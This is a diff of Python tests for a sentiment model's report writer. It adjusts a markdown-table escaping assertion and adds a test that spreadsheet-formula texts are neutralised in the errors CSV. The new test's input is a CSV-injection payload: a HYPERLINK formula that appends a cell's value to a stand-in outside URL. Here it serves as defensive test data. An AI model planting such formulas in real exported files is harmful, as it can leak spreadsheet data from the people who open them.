@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import csv
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -65,7 +66,18 @@ def test_the_report_folder_holds_plots_tables_and_predictions(
     assert "1 of 3 test rows" in summary
     assert "| before fine-tuning | 0.5000 | – |" in summary
     assert "| 负面 | 2 | 1.0000 | 0.5000 | 0.6667 |" in summary
-    assert r"| after fine-tuning | 我今天\|很生气 | 负面 | 0.9800 |" in summary
+    assert "| after fine-tuning | 我今天&#124;很生气 | 负面 | 0.9800 |" in summary
+
+
+def test_texts_that_look_like_formulas_are_dead_in_the_table_of_mistakes(
+    metrics: dict[str, dict[str, float]], tmp_path: Path
+) -> None:
+    predictions = replace(PREDICTIONS, texts=["很好", '=HYPERLINK("http://example.com/"&A1,"点这里")', "差"])
+    write_report(tmp_path, predictions, metrics=metrics)
+    with (tmp_path / "errors.csv").open(encoding="utf-8-sig", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["text"] == f"'{predictions.texts[1]}"
+    assert pq.read_table(tmp_path / "predictions.parquet")["text"].to_pylist() == predictions.texts
 
 
 def test_models_of_a_split_come_without_its_name(metrics: dict[str, dict[str, float]]) -> None:
